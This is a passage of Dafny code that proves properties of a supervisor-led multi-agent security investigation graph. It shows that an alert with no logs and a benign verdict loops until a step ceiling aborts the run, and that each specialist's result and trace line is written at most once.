    RunTwoSteps(step, s, SupervisorNode, fuel);
    StuckRun(step, s2, SupervisorNode, fuel - 2);
    var rest := RunWith(step, s2, SupervisorNode, fuel - 2);
    var out := After([first.event, second.event], rest);
    assert forall i :: 2 <= i < fuel ==> out.events[i] == rest.events[i - 2];
  }

  /** An alert without logs and with a benign verdict never ends: after the
      Threat Analyst the supervisor and the Log Analyst alternate until the
      step ceiling aborts the run, with the Threat Analyst's line the only
      one added to the trace and no log summary ever recorded. */
  lemma EmptyLogsNeverEnd(s: GraphState, o: Oracles)
    requires o.supervisor == FastTrackChain && IntelAnswers(o, false)
    requires s.indicator.Some? && NoLogs(s) && s.intel.None? && s.logSummary.None?
    ensures Livelocks(RunFrom(s, SupervisorNode, RecursionLimit, o), s, RecursionLimit)
  {
    FastTrackSupervisorStep(s, o);
    var s1 := Merge(s, Decision(ToThreatAnalyst));
    ThreatAnalystAnswers(s1, o, false);
    assert GraphStep(o)(s, SupervisorNode) == Superstep(s, SupervisorNode, o);
    assert GraphStep(o)(s1, ThreatAnalystNode) == Superstep(s1, ThreatAnalystNode, o);
    GraphStepLoopsOnLogs(o);
    IntelThenStuck(GraphStep(o), s, RecursionLimit);
  }

  // ---------------------------------------------------------------------
  // Each verdict, the policy and their trace lines are written at most once
  // ---------------------------------------------------------------------

  /** Which node may write which result: the intel only the Threat
      Analyst, the log summary only the Log Analyst, the policy only the
      Policy Agent; an event that writes the trace also writes one of the
      three. */
  predicate WritesOwnResult(ev: StepEvent) {
    (ev.update.intel.Some? ==> ev.node == ThreatAnalystNode)
    && (ev.update.logSummary.Some? ==> ev.node == LogAnalystNode)
    && (ev.update.policy.Some? ==> ev.node == PolicyAgentNode)
    && (ev.update.trace.Some? ==> ev.update.intel.Some? || ev.update.logSummary.Some? || ev.update.policy.Some?)
  }

  /** A specialist is only dispatched while its result is still missing. */
  predicate Pending(s: GraphState, at: Node) {
    (at == ThreatAnalystNode ==> s.intel.None?)
    && (at == LogAnalystNode ==> s.logSummary.None?)
    && (at == PolicyAgentNode ==> s.policy.None?)
  }

  /** A step from a pending node writes only its own result and hands over
      to a node that is pending in turn. */
  predicate StepWritesOnce(s: GraphState, at: Node, r: StepResult) {
    r.Emitted? ==>
      r.event.node == at && WritesOwnResult(r.event)
      && (r.next.Goto? ==> Pending(Merge(s, r.event.update), r.next.node))
  }

  ghost predicate WritesOnce(step: (GraphState, Node) -> StepResult) {
    forall t, n {:trigger step(t, n)} :: Pending(t, n) ==> StepWritesOnce(t, n, step(t, n))
  }

  /** The supervisor following the fast-track table dispatches each
      specialist only while its result is missing. */
  lemma FastTrackDispatchesPending(s: GraphState, o: Oracles)
    requires o.supervisor == FastTrackChain
    ensures StepWritesOnce(s, SupervisorNode, Superstep(s, SupervisorNode, o))
  {
    FastTrackSupervisorStep(s, o);
  }

  /** Each specialist writes only its own result. */
  lemma SpecialistWritesOwnResult(s: GraphState, at: Node, o: Oracles)
    requires at != SupervisorNode
    ensures StepWritesOnce(s, at, Superstep(s, at, o))
  {
    match at {
      case ThreatAnalystNode =>
      case LogAnalystNode =>
      case PolicyAgentNode =>
    }
  }

  lemma GraphStepWritesOnce(o: Oracles)
    requires o.supervisor == FastTrackChain
    ensures WritesOnce(GraphStep(o))
  {
    forall t, n | Pending(t, n) ensures StepWritesOnce(t, n, GraphStep(o)(t, n)) {
      assert GraphStep(o)(t, n) == Superstep(t, n, o);
      if n == SupervisorNode {
        FastTrackDispatchesPending(t, o);
      } else {
        SpecialistWritesOwnResult(t, n, o);
      }
    }
  }

  lemma WritesCons(ev: StepEvent, rest: seq<StepEvent>, key: string)
    ensures Writes([ev] + rest, key) == (if key in Keys(ev.update) then 1 else 0) + Writes(rest, key)
  {
    assert ([ev] + rest)[0] == ev && ([ev] + rest)[1..] == rest;
  }

  /** How often a run writes each result, bounded by whether it was
      missing at the start, and the trace no more often than the three
      together. */
  predicate WrittenOnce(evs: seq<StepEvent>, s: GraphState) {
    Writes(evs, "intel") <= (if s.intel.None? then 1 else 0)
    && Writes(evs, "log_summary") <= (if s.logSummary.None? then 1 else 0)
    && Writes(evs, "policy") <= (if s.policy.None? then 1 else 0)
    && Writes(evs, "investigation_trace") <= Writes(evs, "intel") + Writes(evs, "log_summary") + Writes(evs, "policy")
  }

  /** One more event in front keeps the bounds when it writes only its own
      result from a pending node. */
  lemma WrittenOnceCons(ev: StepEvent, rest: seq<StepEvent>, s: GraphState, at: Node)
    requires Pending(s, at) && ev.node == at && WritesOwnResult(ev)
    requires WrittenOnce(rest, Merge(s, ev.update))
    ensures WrittenOnce([ev] + rest, s)
  {
    WritesCons(ev, rest, "intel");
    WritesCons(ev, rest, "log_summary");
    WritesCons(ev, rest, "policy");
    WritesCons(ev, rest, "investigation_trace");
  }

  /** A last event alone keeps the bounds too. */
  lemma WrittenOnceLast(ev: StepEvent, s: GraphState, at: Node)
    requires Pending(s, at) && ev.node == at && WritesOwnResult(ev)
    ensures WrittenOnce([ev], s)
  {
    WrittenOnceCons(ev, [], s, at);
    assert [ev] + [] == [ev];
  }

  /** For any step function that writes once, a run from a pending node
      writes each result at most once. */
  lemma {:induction false} RunWritesOnce(step: (GraphState, Node) -> StepResult, s: GraphState, at: Node, fuel: nat)
    requires WritesOnce(step) && Pending(s, at)
    ensures WrittenOnce(RunWith(step, s, at, fuel).events, s)
    decreases fuel
  {
    if fuel > 0 {
      var r := step(s, at);
      assert StepWritesOnce(s, at, r);
      if r.Emitted? {
        var s' := Merge(s, r.event.update);
        if r.next.Goto? {
          RunWritesOnce(step, s', r.next.node, fuel - 1);
          WrittenOnceCons(r.event, RunWith(step, s', r.next.node, fuel - 1).events, s, at);
        } else {
          WrittenOnceLast(r.event, s, at);
        }
      }
    }
  }

  /** Whatever the chains other than the supervisor's answer, a run of
      the graph writes the intel, the log summary and the policy each at
      most once, and only when missing at the start, and appends at most
      three trace lines. */
  lemma WritesAtMostOnce(s: GraphState, o: Oracles, fuel: nat)
    requires o.supervisor == FastTrackChain
    ensures var out := RunFrom(s, SupervisorNode, fuel, o);
      WrittenOnce(out.events, s) && |out.final.trace| <= |s.trace| + 3
  {
    GraphStepWritesOnce(o);
    RunWritesOnce(GraphStep(o), s, SupervisorNode, fuel);
    RunFinalState(s, SupervisorNode, fuel, o);
  }
}
